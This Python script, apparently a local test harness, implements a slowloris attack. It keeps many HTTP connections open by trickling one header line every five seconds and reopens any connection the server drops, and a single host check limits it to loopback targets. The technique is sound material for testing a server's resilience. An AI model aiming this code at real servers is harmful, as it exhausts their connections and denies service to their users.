"""slowloris.py HOST PORT N SECONDS [RECONNECT_S]: keep N slow connections to
HOST:PORT open from 127.0.0.2 for SECONDS, then exit by itself. Loopback only
(refuses any other HOST). Each connection sends a request line, then one
header line every 5 s, never finishing its head; a connection the server
drops is reopened after RECONNECT_S (default 2 s), so the server also sees a
steady stream of new connections (N / RECONNECT_S per second at most). The last line printed sums up what was held and
refused."""

import errno
import heapq
import selectors
import socket
import sys
import time

LINE_EVERY_S = 5.0

host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
RECONNECT_S = float(sys.argv[5]) if len(sys.argv) > 5 else 2.0
if not host.startswith("127."):
    sys.exit("slowloris: loopback targets only")
sel = selectors.DefaultSelector()
slots = [None] * n   # socket or None
first = [True] * n   # the request line is still to be sent
gen = [0] * n        # bumped when a slot's connection ends: older schedule entries are void
due = [(0.0, i, 0) for i in range(n)]  # (when, slot, gen): connect or send the next line
heapq.heapify(due)
opened = dropped = peak = live = 0
end = time.time() + seconds


def drop(i):
    global dropped, live
    s = slots[i]
    sel.unregister(s)
    s.close()
    slots[i] = None
    live -= 1
    dropped += 1
    gen[i] += 1
    heapq.heappush(due, (time.time() + RECONNECT_S, i, gen[i]))


while time.time() < end:
    now = time.time()
    while due and due[0][0] <= now:
        _, i, g = heapq.heappop(due)
        if g != gen[i]:
            continue
        s = slots[i]
        if s is None:
            s = socket.socket()
            s.setblocking(False)
            try:
                s.bind(("127.0.0.2", 0))
                err = s.connect_ex((host, port))
            except OSError:
                err = -1
            if err not in (0, errno.EINPROGRESS):
                s.close()
                heapq.heappush(due, (now + RECONNECT_S, i, gen[i]))
                continue
            slots[i] = s
            first[i] = True
            sel.register(s, selectors.EVENT_READ, i)
            opened += 1
            live += 1
            peak = max(peak, live)
            heapq.heappush(due, (now + 0.1, i, gen[i]))
            continue
        try:
            s.send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n" if first[i] else b"X-a: b\r\n")
            first[i] = False
            heapq.heappush(due, (now + LINE_EVERY_S, i, gen[i]))
        except BlockingIOError:
            heapq.heappush(due, (now + 0.5, i, gen[i]))
        except OSError:
            drop(i)
    timeout = max(0.0, min(due[0][0] - time.time(), 0.5)) if due else 0.5
    for key, _ in sel.select(timeout=timeout):
        i = key.data
        try:
            if slots[i].recv(4096) == b"":
                drop(i)
        except BlockingIOError:
            pass
        except OSError:
            drop(i)
print("held at most %d connections at once; opened %d, dropped by the server %d"
      % (peak, opened, dropped))
